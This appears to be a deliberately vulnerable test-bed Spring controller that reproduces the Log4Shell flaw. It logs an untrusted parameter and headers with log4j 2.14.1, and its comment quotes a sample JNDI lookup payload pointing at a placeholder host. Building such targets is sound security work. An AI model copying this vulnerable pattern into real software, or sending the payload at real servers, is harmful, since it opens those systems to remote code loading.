package secplane.testbeds.webapp;

import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.Logger;
import org.springframework.stereotype.Controller;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.RequestHeader;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.bind.annotation.ResponseBody;

/**
 * Logs attacker-controlled input with log4j-core 2.14.1, the pattern behind CVE-2021-44228 and
 * CVE-2021-45046: the formatted message is scanned for {@code ${...}} lookups, so
 * {@code ${jndi:ldap://host/x}} makes the server open an LDAP connection to the attacker.
 * The headers are logged too because real exploitation sprayed User-Agent and X-Api-Version.
 */
@Controller
public final class LogController {

    private static final Logger LOG = LogManager.getLogger(LogController.class);

    @GetMapping("/log")
    @ResponseBody
    public String log(@RequestParam(name = "msg", defaultValue = "") String msg,
                      @RequestHeader(name = "User-Agent", required = false) String userAgent,
                      @RequestHeader(name = "X-Api-Version", required = false) String apiVersion) {
        LOG.error("user message: {}", msg);
        LOG.info("user agent: {}", userAgent);
        LOG.info("api version: {}", apiVersion);
        return "logged";
    }
}
